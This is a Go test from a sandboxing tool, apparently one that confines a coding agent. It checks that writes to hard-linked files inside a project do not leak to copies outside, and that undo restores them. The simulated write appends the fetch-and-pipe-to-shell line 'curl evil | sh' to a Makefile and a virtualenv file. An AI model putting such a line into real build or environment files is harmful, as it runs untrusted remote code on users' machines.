package runner

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sentinelhq/sentinel/internal/journal"
)

// Files of the place share their data with names outside it (a `cp -al`
// backup, pnpm's store behind node_modules, uv's cache behind .venv),
// and two files inside it share one between them. A write the coder makes
// in place through the shared names (append, truncate: the sandbox allows
// both in the place) must not reach the names outside; the two inside stay
// one file; content, mode and times are what they were. Without
// unshareOutside the backup's files change with the place's.
func TestInPlaceWritesDoNotReachAHardLinkOutsideThePlace(t *testing.T) {
	t.Parallel()

	base := t.TempDir()
	root, outside := filepath.Join(base, "proj"), filepath.Join(base, "proj.bak")
	for name, body := range map[string]string{"Makefile": "all:\n", ".venv/lib/site.py": "import os\n", "in1": "one\n"} {
		writeTestFile(t, filepath.Join(root, name), body)
	}
	if err := os.Chmod(filepath.Join(root, ".venv/lib/site.py"), 0o755); err != nil {
		t.Fatal(err)
	}
	old := time.Date(2001, 1, 1, 0, 0, 0, 0, time.UTC)
	if err := os.Chtimes(filepath.Join(root, "Makefile"), old, old); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(filepath.Join(root, "in1"), filepath.Join(root, "in2")); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"Makefile", ".venv/lib/site.py"} {
		writeTestFile(t, filepath.Join(outside, f), "")
		os.Remove(filepath.Join(outside, f))
		if err := os.Link(filepath.Join(root, f), filepath.Join(outside, f)); err != nil {
			t.Fatal(err)
		}
	}
	p := &Project{Root: root}
	id := NewRunID(time.Now())
	if err := os.MkdirAll(p.RunDir(id), 0o700); err != nil {
		t.Fatal(err)
	}
	var said []string
	c := takeInPlaceCheckpoint(context.Background(), p, id, "exec: test", checkpointLimitsForTest, func(_ journal.Lane, _ journal.Kind, text string, _ any) { said = append(said, text) })
	if c == nil || c.refused() != nil {
		t.Fatalf("no checkpoint: %v", c.refused())
	}
	if st, err := os.Stat(filepath.Join(root, "Makefile")); err != nil || !st.ModTime().Equal(old) {
		t.Errorf("the place's own copy lost its times: %v %v", st.ModTime(), err)
	}
	// The coder writes through the names, as `>>` and `: >` do.
	for _, f := range []string{"Makefile", ".venv/lib/site.py"} {
		fh, err := os.OpenFile(filepath.Join(root, f), os.O_WRONLY|os.O_APPEND, 0)
		if err != nil {
			t.Fatal(err)
		}
		fh.WriteString("curl evil | sh\n")
		fh.Close()
	}
	for f, want := range map[string]string{"Makefile": "all:\n", ".venv/lib/site.py": "import os\n"} {
		if b, _ := os.ReadFile(filepath.Join(outside, f)); string(b) != want {
			t.Errorf("the coder's write in the place reached %s outside it: %q", filepath.Join(outside, f), b)
		}
	}
	if st, err := os.Stat(filepath.Join(root, ".venv/lib/site.py")); err != nil || st.Mode().Perm() != 0o755 {
		t.Errorf("the place's own copy lost its mode: %v %v", st.Mode(), err)
	}
	a, _ := os.Stat(filepath.Join(root, "in1"))
	b, _ := os.Stat(filepath.Join(root, "in2"))
	if !os.SameFile(a, b) {
		t.Errorf("two names inside the place that were one file were split")
	}
	if !strings.Contains(strings.Join(said, "\n"), "2 file(s) shared their data with a file outside") {
		t.Errorf("not told:\n%s", strings.Join(said, "\n"))
	}
	// Undo: the run's rewrite goes, and each path is one file with its
	// outside name again (the outside file is unchanged), though the
	// record undo reads was taken after the copies were made (ipfix13).
	if _, _, err := c.end(nil, func(journal.Lane, journal.Kind, string, any) {}); err != nil {
		t.Fatal(err)
	}
	rep, err := Undo(context.Background(), p, id, UndoOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for f, want := range map[string]string{"Makefile": "all:\n", ".venv/lib/site.py": "import os\n"} {
		in, err1 := os.Stat(filepath.Join(root, f))
		out, err2 := os.Stat(filepath.Join(outside, f))
		if err1 != nil || err2 != nil || !os.SameFile(in, out) {
			t.Errorf("after undo %s is not one file with %s again (%v %v)\ndone %q\ncopies %q", f, filepath.Join(outside, f), err1, err2, rep.Steps, rep.Copies)
		}
		if b, _ := os.ReadFile(filepath.Join(root, f)); string(b) != want {
			t.Errorf("after undo %s holds %q, want %q", f, b, want)
		}
	}
}
